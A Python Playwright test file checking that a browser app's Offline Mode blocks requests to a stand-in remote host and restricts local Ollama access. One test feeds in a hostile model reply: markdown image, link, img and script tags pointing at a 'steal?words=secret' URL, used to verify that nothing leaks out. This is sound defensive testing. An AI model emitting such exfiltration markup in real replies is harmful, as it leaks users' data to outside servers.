"""Offline Mode as a person can check it: what is refused, what is said of it, and what the network saw.

"Elsewhere" is a real server that the browser knows as models.example: every byte that reaches it would have left this
device.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, expect

from tests.browser.conftest import MakeApp
from tests.browser.driver import App
from tests.browser.files import Offer, tiny
from tests.browser.liar import Liar
from tests.browser.site import Site
from tests.browser.test_ollama import article, connect
from tests.environment import PAGE_FLAGS
from tests.ollama.stand_in import StandIn

HOST = "models.example"
OFFER = Offer("School model", tiny(), ("tiny.gguf",))
#: Asked of the window and of a worker of its own, past everything that Python decides.
ASK = """async address => {
  const outcome = ask => ask.then(reply => reply.status, () => 'refused');
  const picture = new Promise(done => {
    const image = new Image();
    image.onload = () => done('drawn');
    image.onerror = () => done('refused');
    image.src = address + 'picture.png';
  });
  return [await outcome(fetch(address + 'window', { mode: 'no-cors' })), await picture];
}"""


@pytest.fixture
def elsewhere(
    launch_browser: Callable[..., Browser], browser_context_args: dict[str, object], liar: Liar
) -> Iterator[Callable[[str], App]]:
    """A page in a browser for which the liar stands on another machine."""
    browser = launch_browser(args=[*PAGE_FLAGS, f"--host-resolver-rules=MAP {HOST} 127.0.0.1"])
    liar.url = liar.url.replace("localhost", HOST)
    apps: list[App] = []

    def make(url: str) -> App:
        apps.append(App(browser.new_context(**browser_context_args), url))  # type: ignore[arg-type]
        return apps[-1]

    yield make
    problems = [problem for app in apps for problem in app.problems]
    browser.close()
    assert problems == []


def settled(app: App) -> None:
    """The service worker is in charge."""
    app.page.evaluate("async () => { await navigator.serviceWorker.ready; }")
    app.page.wait_for_function("() => navigator.serviceWorker.controller")


def switch_on(app: App) -> None:
    """Offline Mode, as a person switches it on."""
    app.settings("Privacy & offline").get_by_role("switch", name="Offline Mode").click()
    expect(app.page.locator("#pill")).to_have_text("Offline Mode")
    expect(app.page.locator("#part-account")).to_contain_text("Nothing has left this device since")


def test_nothing_leaves_this_device_whoever_asks(elsewhere: Callable[[str], App], site: Site, liar: Liar) -> None:
    app = elsewhere(site.url)
    app.allow("net::ERR", "Failed to load resource", "Content Security Policy", "violates", HOST)
    liar.put("tiny.gguf", OFFER.file)
    app.open(f"?catalog={liar.catalog(OFFER)}#/models")
    row = app.page.get_by_role("article", name=OFFER.name)
    expect(row.get_by_role("button", name="Download")).to_be_visible()
    settled(app)
    switch_on(app)
    seen = len(liar.log)
    app.go("Models")
    row.get_by_role("button", name="Download").click()
    expect(row).to_contain_text("Offline Mode is on")
    assert app.page.evaluate(ASK, liar.url) == ["refused", "refused"]
    app.reload()
    assert app.page.evaluate(ASK, liar.url) == ["refused", "refused"]
    for address in (liar.url + "catalog.toml", liar.url + "another.gguf"):
        app.settings("Classroom").get_by_role("textbox", name="Catalogue address").fill(address)
        app.page.get_by_role("button", name="Add catalogue", exact=True).click()
        expect(app.page.get_by_role("alert").filter(has_text="Offline Mode is on").first).to_be_visible()
    app.settings("Privacy & offline")
    expect(app.page.locator("#part-account")).to_contain_text("requests blocked")
    app.page.get_by_text("See log").click()
    expect(app.page.locator("#offline-log")).to_contain_text(HOST)
    assert len(liar.log) == seen
    with app.page.expect_navigation():  # the stricter policy ends with a reload only
        app.page.get_by_role("switch", name="Offline Mode").click()
    app.wait_ready()
    expect(app.page.locator("#pill")).to_have_text("Online")
    app.settings("Classroom").get_by_role("textbox", name="Catalogue address").fill(liar.url + "catalog.toml")
    app.page.get_by_role("button", name="Add catalogue", exact=True).click()
    expect(app.page.get_by_role("list", name="Catalogues").get_by_role("listitem")).to_contain_text("The liar's")
    assert len(liar.log) > seen


def test_a_hostile_reply_reaches_nobody_and_its_link_is_not_followed(
    elsewhere: Callable[[str], App], site: Site, liar: Liar
) -> None:
    app = elsewhere(site.url)
    with StandIn() as server:
        server.install("chatty:1b")
        secret = liar.url + "steal?words=secret"
        server.talk.text = (
            f"![a picture]({secret}) [a link]({secret}) <img src='{secret}'> <script src='{secret}'></script>"
        )
        connect(app, server)
        article(app, "chatty:1b").get_by_role("button", name="Use", exact=True).click()
        switch_on(app)
        app.go("Chat")
        answer = app.send("Who are you?")
        app.wait_answered(answer)
        answer.get_by_role("link", name="a link").click()
        expect(app.page.get_by_role("status").filter(has_text=f"blocked the link to {HOST}")).to_be_visible()
        assert len(app.context.pages) == 1
    assert liar.log == []


@pytest.mark.slow
def test_ollama_on_this_computer_is_asked_only_where_that_is_allowed(make_app: MakeApp) -> None:
    app = make_app()
    with StandIn() as server:
        server.install("chatty:1b")
        connect(app, server)
        article(app, "chatty:1b").get_by_role("button", name="Use", exact=True).click()
        switch_on(app)
        app.go("Chat")
        assert app.ask("What is the capital of France?") == "The capital of France is Paris."
        allow = app.settings("Privacy & offline").get_by_role("switch", name="Allow Ollama on this computer")
        allow.click()
        expect(allow).not_to_be_checked()
        app.reload()
        before = len(server.log)
        app.go("Chat")
        app.ask("What is the capital of France?")
        expect(app.answers.last).to_contain_text("Offline Mode is on, so 127.0.0.1")
        app.go("Models")
        expect(app.page.get_by_role("heading", name="Local Models")).to_be_visible()
        assert len(server.log) == before
        assert app.page.evaluate("url => fetch(url).then(() => 'asked', () => 'refused')", server.url) == "refused"
        app.allow("Content Security Policy", "violates", re.escape(server.url))
